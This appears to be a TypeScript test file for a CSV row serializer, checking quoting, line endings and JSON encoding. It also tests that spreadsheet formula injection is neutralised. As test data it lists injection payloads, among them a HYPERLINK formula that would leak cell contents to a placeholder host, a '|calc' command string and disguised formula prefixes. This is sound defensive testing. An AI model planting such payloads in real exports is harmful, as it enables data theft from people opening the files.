import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { csvRow } from "../../src/support/csv.ts";

const cell = (value: unknown) => csvRow([value]).replace(/\r\n$/, "");

describe("a row of CSV", () => {
  it("ends with CR LF, and quotes what would end a cell or a row", () => {
    assert.equal(
      csvRow(["plain", 'say "hi"', "a,b", "a;b", "two\r\nlines\rthree", "", undefined, null]),
      'plain,"say ""hi""","a,b","a;b","two\nlines\nthree",,,\r\n',
    );
  });

  it("leaves numbers numbers, also those below 0", () => {
    assert.equal(csvRow([-1, 0.5, true]), "-1,0.5,true\r\n");
  });

  it("tells what has parts as JSON", () => {
    assert.equal(cell([{ code: 1 }]), '"[{""code"":1}]"');
  });

  it("makes no text a formula", () => {
    for (const text of [
      '=HYPERLINK("http://x/?"&A1)',
      "+49 151",
      "-2+3",
      "@SUM(A1)",
      "%0A",
      "|calc",
      "  =1+1",
      "\u00a0=1",
      "＝1+1",
      "\t=1",
      "\r=1",
      "\n=1",
      "\u0000=1",
      "\u200b\u202e=1",
    ]) {
      assert.match(cell(text), /^"?'/, JSON.stringify(text));
    }
    for (const text of ["a=b", "1-2", "hello @mia", "(=1)", "'=1", "é"]) {
      assert.doesNotMatch(cell(text), /^"?'(?!=1)/, text);
    }
  });
});
